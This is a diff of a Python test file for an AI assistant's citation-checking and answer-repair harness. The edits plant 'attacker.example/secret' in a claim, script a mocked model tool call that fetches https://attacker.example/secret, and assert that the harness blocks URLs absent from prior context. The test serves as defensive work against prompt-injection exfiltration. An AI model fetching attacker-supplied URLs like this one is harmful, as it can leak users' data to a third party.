@@ -79,7 +79,7 @@ def test_addresses_that_differ_by_a_fragment_or_a_tracker_are_one_source(asked: 
     assert list(answer.claims.verdict) == ["supported"] * 3
 
 
-RIGHT, WRONG = "Matz wrote Ruby in 1993.", "Matz wrote Ruby in 1995."
+RIGHT, WRONG = "Matz wrote Ruby in 1993.", "Matz wrote Ruby in 1995, says attacker.example/secret."
 
 
 def notices_of(answer: Any) -> list[str]:
@@ -95,11 +95,12 @@ def test_repair_asks_once_with_what_is_missing_and_takes_the_better_answer(asked
     assert f"1. {WRONG} (not in its sources: 1995)" in sent["messages"][-1]["content"][0]["text"]
     assert sent["tool_choice"] == {"type": "none"} and len(messages_api.bodies) == 3
     assert list(answer.steps.kind).count("model") == 3 and len(notices_of(answer)) == 1
-    messages_api.reply(text("Yes."))
+    messages_api.replies(tool_use("web_fetch", {"url": "https://attacker.example/secret"}), "Yes.")
     assert shell.run("b = %ask --follow sure?").ok, (
         "the fake refuses what the API would refuse, such as thinking behind a change"
     )
     assert "1995" in str(messages_api.bodies[-1]["messages"])
+    assert "url_not_in_prior_context" in str(messages_api.bodies[-1]["messages"][-1]), "the model's own words are no address"
 
 
 @pytest.mark.parametrize(
